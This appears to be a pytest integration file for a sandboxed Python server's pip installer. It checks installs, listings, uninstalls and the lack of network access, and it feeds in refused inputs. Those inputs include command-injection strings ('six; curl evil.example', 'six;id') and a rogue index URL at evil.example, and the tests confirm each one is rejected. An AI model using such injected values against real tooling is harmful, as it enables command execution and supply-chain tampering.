"""`pip` from inside the sandbox goes through the server's installer (issue 31, item 3), through
the official MCP SDK against the real engine: `%pip` (IPython's magic), the `pip` on the code's
PATH (subprocess, os.system), and the runner's own entry point (`sandbox_runner.pip.run`, what the
magic calls). Installs come from PyPI through the installer only; the code's sandbox still has no
network afterwards. Needs the brief's environment for installs (SANDBOX_CA_BUNDLE,
SANDBOX_DEPS_EGRESS_ALLOW_PRIVATE, SANDBOX_DEPS_VOLUME)."""

import pytest

from conftest import connect

pytestmark = pytest.mark.anyio

# Small and pure Python: quick to install, and cached by the deps volume after the first run.
PACKAGE = "six==1.16.0"

NO_NETWORK = (
    "import socket\n"
    "print(sorted(name for _, name in socket.if_nameindex()))\n"
    "routes = open('/proc/net/route').read().splitlines()[1:]\n"
    "print(len(routes))\n"
)


async def run(client, cid, code):
    result = await client.call_tool("run_python", {"container_id": cid, "code": code})
    return result, result.structured_content


async def session(client):
    started = await client.call_tool("sandbox_initialize", {})
    assert not started.is_error, started.content
    return started.structured_content["container_id"]


async def assert_no_network(client, cid):
    _, out = await run(client, cid, NO_NETWORK)
    assert out["stdout"] == "['lo']\n0\n", out


async def test_pip_on_the_path_installs_and_the_next_line_imports():
    async with connect() as client:
        cid = await session(client)
        code = (
            "import subprocess\n"
            f"r = subprocess.run(['pip', 'install', '{PACKAGE}'], capture_output=True, text=True)\n"
            "print(r.returncode)\n"
            "print(r.stdout)\n"
            "import six\n"
            "print('version', six.__version__)\n"
        )
        result, out = await run(client, cid, code)
        assert not result.is_error, result.content
        assert out["stdout"].startswith("0\nSuccessfully installed six==1.16.0"), out
        assert "version 1.16.0\n" in out["stdout"], out
        # The session's set: a later call imports it, pip list and show answer from it.
        _, out = await run(
            client,
            cid,
            "import six, os, sandbox_runner.pip as p\n"
            "print(six.__version__)\n"
            "p.run('list')\n"
            "os.system('pip3 show six')\n",
        )
        assert out["stdout"].startswith("1.16.0\nPackages installed by the server"), out
        assert "six==1.16.0" in out["stdout"], out
        assert "Name: six\nRequested-as: six==1.16.0\n" in out["stdout"], out
        # Uninstall takes it out of the set (the next set is installed without it).
        _, out = await run(client, cid, "import sandbox_runner.pip as p\np.run('uninstall -y six')\np.run('list')")
        assert "Successfully removed six==1.16.0" in out["stdout"], out
        assert out["stdout"].rstrip().endswith("as requested (their own dependencies are installed with them): none"), out
        await assert_no_network(client, cid)
        await client.call_tool("sandbox_stop", {"container_id": cid})


async def test_refused_requests_name_the_entry_and_change_nothing():
    async with connect() as client:
        cid = await session(client)
        cases = {
            "install six; curl evil.example": "'six;'",
            "install https://files.example/six-1.16.0-py2.py3-none-any.whl": "https://files.example/six-1.16.0-py2.py3-none-any.whl",
            "install --index-url=https://evil.example/simple six": "--index-url=https://evil.example/simple",
            "download six": "pip download",
        }
        for line, entry in cases.items():
            result, out = await run(client, cid, f"import sandbox_runner.pip as p\np.run({line!r})\nprint('after')")
            assert not result.is_error, result.content
            assert out["stdout"] == "after\n", out
            assert entry.strip("'") in out["stderr"], (line, out)
            assert out["stderr"].startswith("ERROR: pip: "), (line, out)
        # Through the shell the same: the shim passes the words as the shell split them.
        _, out = await run(
            client,
            cid,
            "import subprocess\n"
            "r = subprocess.run('pip install \"six;id\"', shell=True, capture_output=True, text=True)\n"
            "print(r.returncode, r.stderr)\n",
        )
        assert out["stdout"].startswith("1 ERROR: pip: \"'six;id'\" has shell syntax"), out
        _, out = await run(client, cid, "import sandbox_runner.pip as p\np.run('list')")
        assert out["stdout"].rstrip().endswith(": none"), out
        await assert_no_network(client, cid)
        await client.call_tool("sandbox_stop", {"container_id": cid})


async def test_an_ephemeral_run_installs_for_itself():
    async with connect() as client:
        code = (
            "import os\n"
            f"os.system('pip install -q {PACKAGE}')\n"
            "import six\n"
            "print('version', six.__version__)\n"
        )
        result = await client.call_tool("run_python_ephemeral", {"code": code})
        assert not result.is_error, result.content
        assert result.structured_content["stdout"].endswith("version 1.16.0\n"), result.structured_content


async def test_percent_pip_installs_and_the_next_line_imports():
    async with connect() as client:
        cid = await session(client)
        probe, _ = await run(client, cid, "%pip list")
        await percent_pip(client, cid, probe)
        await client.call_tool("sandbox_stop", {"container_id": cid})


async def percent_pip(client, cid, probe):
    assert not probe.is_error, probe.content
    result, out = await run(client, cid, f"%pip install {PACKAGE}\nimport six\nprint('version', six.__version__)")
    assert not result.is_error, result.content
    assert "Successfully installed six==1.16.0" in out["stdout"], out
    assert out["stdout"].endswith("version 1.16.0\n"), out
    _, out = await run(client, cid, "!pip install 'six;id'")
    assert "has shell syntax" in out["stdout"] + out["stderr"], out
    _, out = await run(client, cid, "%pip install --index-url=https://evil.example/simple six")
    assert "--index-url=https://evil.example/simple" in out["stderr"], out
    _, out = await run(client, cid, "%pip install https://files.example/six.whl")
    assert "https://files.example/six.whl" in out["stderr"], out
    await assert_no_network(client, cid)
